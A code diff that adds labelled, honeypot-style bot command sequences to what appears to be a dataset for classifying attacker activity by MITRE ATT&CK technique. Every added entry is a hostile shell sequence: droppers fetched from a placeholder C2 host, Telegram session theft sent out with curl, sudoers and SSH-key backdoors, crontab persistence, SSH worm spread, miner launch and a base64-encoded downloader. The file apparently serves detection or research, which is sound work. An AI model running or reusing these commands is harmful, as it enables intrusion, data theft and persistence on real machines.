@@ -1392,4 +1392,93 @@ T1552.001 :: env | grep VAULT
 T1555 :: vault kv list secret/
 T1555 :: vault kv get -format=json secret/{project}/prod
 """),
+# --- 14. Honeypot-style bot scripts: fingerprint one-liners, shell checks, SCP drops ----------------------------------
+("bot-auth-ok-echo-scp", "bot", """
+T1497.001 :: echo -e "\\x61\\x75\\x74\\x68\\x5F\\x6F\\x6B\\x0A"
+T1105 :: scp -t /tmp/{r}
+T1059.004,T1059.004,T1059.004 :: cd /tmp && chmod +x {r} && bash -c ./{r}
+T1059.004 :: ./{r}
+"""),
+("bot-elf-header-check", "bot", """
+T1082 :: dd if=/proc/self/exe bs=22 count=1 || while read i; do echo $i; done < /proc/self/exe || cat /proc/self/exe
+T1082 :: cat /proc/cpuinfo
+T1105 :: cd /tmp || cd /var/run || cd /mnt
+T1105,T1059.004,T1059.004 :: wget http://{c2}/{arch}; chmod 777 {arch}; ./{arch} ssh
+"""),
+("bot-gsm-modem-probe", "bot", """
+T1120 :: ls -la /dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/* /var/log/smsd.log /etc/smsd.conf* /usr/bin/qmuxd /dev/modem* /var/config/sms/*
+T1082 :: uname -a
+T1057,T1057 :: ps | grep '[Mm]iner'
+T1057,T1057 :: ps -ef | grep '[Mm]iner'
+"""),
+("bot-mikrotik-router-probe", "bot", """
+T1082 :: /ip cloud print
+T1016 :: ifconfig
+T1082 :: uname -a
+T1082 :: cat /proc/cpuinfo
+T1057,T1057 :: ps | grep '[Mm]iner'
+T1083 :: ls -la ~/.local/share/TelegramDesktop/tdata /home/*/.local/share/TelegramDesktop/tdata /dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/*
+T1497.001,T1497.001 :: echo Hi | cat -n
+"""),
+("bot-gpu-check-miner", "bot", """
+T1082 :: nvidia-smi --list-gpus
+T1082,T1082 :: lspci | grep VGA
+T1082,T1082 :: lspci | grep -i nvidia
+T1082 :: nproc
+T1105 :: cd {dir}; curl -s -O http://{c2}/{bin}
+T1496.001,T1496.001 :: chmod +x {bin}; ./{bin} -a ethash -o stratum+tcp://{pool}:{poolport} -u {wallet}
+"""),
+("bot-sudo-s-password", "bot", """
+T1033 :: whoami
+T1548.003,T1548.003 :: echo "{pw}" | sudo -S id
+T1548.003,T1548.003 :: echo "{pw}" | sudo -S sh -c "echo '{user} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"
+T1098.004,T1098.004,T1098.004,T1098.004 :: cd ~ && mkdir -p .ssh && echo "{key}" >> .ssh/authorized_keys && chmod 600 .ssh/authorized_keys
+"""),
+("bot-locate-canary", "bot", """
+T1497.001 :: locate {r2}{r2}
+T1083 :: ls /
+T1082 :: uname -a
+T1033 :: w
+"""),
+("bot-telegram-session-theft", "bot", """
+T1083 :: ls -la ~/.local/share/TelegramDesktop/tdata
+T1552.001 :: find / -name "tdata" -type d 2>/dev/null
+T1560.001 :: tar czf /tmp/.t.tgz ~/.local/share/TelegramDesktop/tdata
+T1041 :: curl -s -F "d=@/tmp/.t.tgz" http://{c2}/tg
+"""),
+("bot-crontab-wipe-replace", "bot", """
+T1053.003 :: crontab -r
+T1053.003,T1053.003 :: echo "* * * * * wget -q -O - http://{c2}/{script} | sh > /dev/null 2>&1" | crontab -
+T1053.003 :: crontab -l
+T1070.003 :: history -c
+"""),
+("bot-proc-self-busybox-loop", "bot", """
+T1059.004 :: /bin/busybox {r}
+T1082,T1082 :: cat /proc/self/exe || /bin/busybox cat /proc/self/exe
+T1105 :: for d in /tmp /var/tmp /dev/shm /var/run; do >$d/.t && cd $d; done
+T1105,T1105,T1059.004,T1059.004 :: /bin/busybox wget http://{c2}/{arch} -O .d || /bin/busybox tftp -g -l .d -r {arch} {c2}; chmod 777 .d; ./.d {arch}.loader
+"""),
+("bot-base64-dropper-oneliner", "bot", """
+T1082 :: uname -a
+T1140,T1140,T1059.004 :: echo Y2QgL3RtcDsgd2dldCBodHRwOi8vMTk4LjUxLjEwMC43L3g7IGNobW9kICt4IHg7IC4veA== | base64 -d | sh
+T1070.004 :: rm -rf /tmp/x
+"""),
+("bot-nohup-python-http", "bot", """
+T1082 :: python3 -V
+T1105 :: curl -s http://{c2}/{r}.py -o /tmp/.{r}.py
+T1059.006 :: nohup python3 /tmp/.{r}.py >/dev/null 2>&1 &
+T1070.004 :: rm -f /tmp/.{r}.py
+"""),
+("bot-ssh-keygen-known-hosts-spread", "bot", """
+T1018,T1018,T1018 :: cat ~/.ssh/known_hosts | awk '{print $1}' | sort -u
+T1552.004 :: ls ~/.ssh/id_*
+T1021.004,T1021.004,T1021.004 :: for h in $(awk '{print $1}' ~/.ssh/known_hosts | sort -u); do ssh -oBatchMode=yes -oStrictHostKeyChecking=no $h "curl -s http://{c2}/{script}|sh" & done
+"""),
+("bot-uptime-load-check", "bot", """
+T1082 :: uptime
+T1082,T1082 :: cat /proc/loadavg; nproc
+T1057,T1057 :: ps aux --sort=-%cpu | head -n 5
+T1489,T1489,T1489 :: ps aux | awk '$3>40 {print $2}' | xargs -r kill -9
+T1105,T1059.004 :: curl -s http://{c2}/{script} | sh
+"""),
 ]
